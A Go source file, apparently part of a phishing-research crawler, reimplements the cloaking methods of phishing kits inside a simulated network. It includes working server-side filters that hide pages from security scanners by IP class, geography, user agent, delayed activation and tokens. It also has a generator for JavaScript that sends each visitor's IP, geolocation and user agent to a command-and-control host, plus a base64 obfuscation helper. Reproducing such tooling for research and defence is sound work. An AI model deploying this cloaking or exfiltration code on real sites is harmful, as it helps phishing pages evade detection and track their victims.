// Package cloak implements the cloaking techniques of the paper's taxonomy
// (Section III) exactly as the corpus deploys them:
//
// Server-side (handler middlewares): delayed URL activation, User-Agent
// filtering, IP blocklists, geolocation filtering, and tokenized URLs.
//
// Client-side (script generators): fingerprint gates combining user agent,
// timezone and language; OTP and math challenge–response gates; console
// hijacking; debugger-timer anti-analysis; the hue-rotate(4deg) visual
// perturbation; and the victim-check script that validates the tokenized
// email against the attacker's C2 before revealing the page.
package cloak

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"crawlerbox/internal/webnet"
)

// BenignPage is the decoy served to filtered visitors — the "blank or
// innocuous screen" prior measurement studies kept running into.
const BenignPage = `<html><head><title>Under Construction</title></head>
<body><p>This page is under construction. Please check back later.</p></body></html>`

func benignResponse() *webnet.Response {
	return &webnet.Response{
		Status:  200,
		Headers: map[string]string{"Content-Type": "text/html"},
		Body:    []byte(BenignPage),
	}
}

// Middleware transforms a handler.
type Middleware func(webnet.Handler) webnet.Handler

// Chain applies middlewares left to right (the leftmost runs first).
func Chain(h webnet.Handler, mws ...Middleware) webnet.Handler {
	for i := len(mws) - 1; i >= 0; i-- {
		h = mws[i](h)
	}
	return h
}

// DelayedActivation serves the benign page before activateAt — the "send at
// night, activate in the morning" tactic that defeats delivery-time URL
// scanning.
func DelayedActivation(clock *webnet.Clock, activateAt time.Time) Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if clock.Now().Before(activateAt) {
				return benignResponse()
			}
			return next(req)
		}
	}
}

// UserAgentFilter reveals the page only to user agents containing one of
// the needles (e.g. mobile browsers for QR-code campaigns).
func UserAgentFilter(needles ...string) Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			ua := req.Header("User-Agent")
			for _, n := range needles {
				if strings.Contains(ua, n) {
					return next(req)
				}
			}
			return benignResponse()
		}
	}
}

// IPClassBlocklist hides the page from blocked IP provenance classes
// (datacenter and security-vendor ranges on known-scanner lists).
func IPClassBlocklist(net *webnet.Internet, blocked ...webnet.IPClass) Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			class := net.ClassOf(req.ClientIP)
			for _, b := range blocked {
				if class == b {
					return benignResponse()
				}
			}
			return next(req)
		}
	}
}

// GeoFilter reveals the page only to visitors from the listed countries —
// the region-targeting the paper inferred from the exfiltrated IP data.
func GeoFilter(net *webnet.Internet, countries ...string) Middleware {
	allowed := make(map[string]bool, len(countries))
	for _, c := range countries {
		allowed[strings.ToUpper(c)] = true
	}
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if !allowed[strings.ToUpper(net.CountryOf(req.ClientIP))] {
				return benignResponse()
			}
			return next(req)
		}
	}
}

// TokenGate reveals the page only for requests whose URL carries a valid
// token in param (e.g. https://evil-site.com/dhfYWfH -> ?t=dhfYWfH).
type TokenGate struct {
	Param  string
	tokens map[string]bool // the accepted tokens
}

// NewTokenGate builds a gate accepting the given tokens.
func NewTokenGate(param string, tokens ...string) *TokenGate {
	g := &TokenGate{Param: param, tokens: map[string]bool{}}
	for _, t := range tokens {
		g.tokens[t] = true
	}
	return g
}

// Valid reports whether a token is accepted.
func (g *TokenGate) Valid(token string) bool {
	return g.tokens[token]
}

// Middleware returns the gate as a middleware.
func (g *TokenGate) Middleware() Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if g.Valid(queryValue(req.RawQuery, g.Param)) {
				return next(req)
			}
			return benignResponse()
		}
	}
}

func queryValue(raw, key string) string {
	for _, kv := range strings.Split(raw, "&") {
		parts := strings.SplitN(kv, "=", 2)
		if len(parts) == 2 && parts[0] == key {
			return parts[1]
		}
	}
	return ""
}

// ExfiltrateClientInfo is the server-side-cloaking support script: before
// the landing page loads, the client's IP (via an httpbin-style service)
// enriched with geo data (via an ipapi-style service) is posted to the C2.
func ExfiltrateClientInfo(httpbinHost, ipapiHost, c2Host string) string {
	return fmt.Sprintf(`
	var __xa = new XMLHttpRequest();
	__xa.open("GET", "https://%s/ip", false);
	__xa.send();
	var __ip = __xa.responseText;
	var __xb = new XMLHttpRequest();
	__xb.open("GET", "https://%s/json?ip=" + __ip, false);
	__xb.send();
	var __geo = __xb.responseText;
	var __xc = new XMLHttpRequest();
	__xc.open("POST", "https://%s/collect", false);
	__xc.send(JSON.stringify({ip: __ip, geo: __geo, ua: navigator.userAgent}));
	`, httpbinHost, ipapiHost, c2Host)
}

// EncodeBase64HTML is a helper for scripts that decode their payloads with
// atob, the obfuscation carrier of the hue-rotate and victim-check scripts.
func EncodeBase64HTML(html string) string {
	return base64.StdEncoding.EncodeToString([]byte(html))
}
